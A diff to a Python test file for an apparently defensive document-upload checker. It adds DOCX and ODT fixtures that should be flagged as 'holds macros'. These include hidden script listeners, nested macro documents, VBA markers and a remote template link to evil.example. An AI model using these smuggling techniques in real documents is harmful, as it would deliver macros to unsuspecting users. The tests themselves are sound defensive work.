@@ -443,7 +443,12 @@ def _odt(**parts: str | bytes) -> bytes:
     return out.getvalue()
 
 
+SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
 GOOD |= {
+    "photo.docx": _docx(**{"word/media/macro-photo.png": PNG.getvalue()}),
+    "template.docx": _docx(**{"word/_rels/settings.xml.rels": '<Relationship Type='
+                              '"http://x/attachedTemplate" Target="file:///C:/School.dotx"/>'}),
+    "about.odt": _odt(**{"content.xml": "<d><p>script:event-listener, ooo:Basic</p></d>"}),
     "plain.odt": _odt(), "windows.txt": "Hämäläinen – “ok”".encode("cp1252"),
     "notepad.txt": "Hämäläinen".encode("utf-16"), "scan.pdf": b"\r\n" + PDF + bytes(3000),
 }  # fmt: skip
@@ -458,6 +463,35 @@ BAD |= {
         _odt(**{"content.xml": '<script:event-listener script:language="ooo:script"/>'}),
         "holds macros",
     ),
+    "otherwise.odt": (
+        _odt(**{"content.xml": f'<d xmlns:s="{SCRIPT}"><s:event-listener s:language="x"/></d>'}),
+        "holds macros",
+    ),
+    "utf16.odt": (
+        _odt(**{"content.xml": f'<d xmlns:s="{SCRIPT}"><s:x/></d>'.encode("utf-16")}),
+        "holds macros",
+    ),
+    "inner.odt": (_odt(**{"Object 1/Basic/Standard/a.xml": "Sub"}), "holds macros"),
+    "linked.odt": (
+        _odt(**{"content.xml": '<d xmlns:x="x" x:href="vnd.sun.star.script:a"/>'}),
+        "holds macros",
+    ),
+    "embedded.docx": (_docx(**{"word/embeddings/a.docm": _docx()}), "holds macros"),
+    "deep.docx": (
+        _docx(**{"word/embeddings/a.docx": _docx(**{"word/vbaProject.bin": "x"})}),
+        "holds macros",
+    ),
+    "small.docx": (_docx(**{"word/a.bin": OLE[:72] + "vba".encode("utf-16-le")}), "holds macros"),
+    "far.docx": (
+        _docx(
+            **{
+                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
+                'Target="https://evil.example/a.dotm" TargetMode="External"/>'
+            }
+        ),
+        "holds macros",
+    ),
+    "hevx.jpg": (b"\x00\x00\x00\x18ftyphevx", "Most compatible"),
     "hidden.odt": (_odt(**{"Pictures/a.png": OLE}), "holds macros"),
     "photo.heic": (b"\x00\x00\x00\x18ftypheic", "Most compatible"),
     "photo.jpg": (b"\x00\x00\x00\x18ftypheic", "Most compatible"),
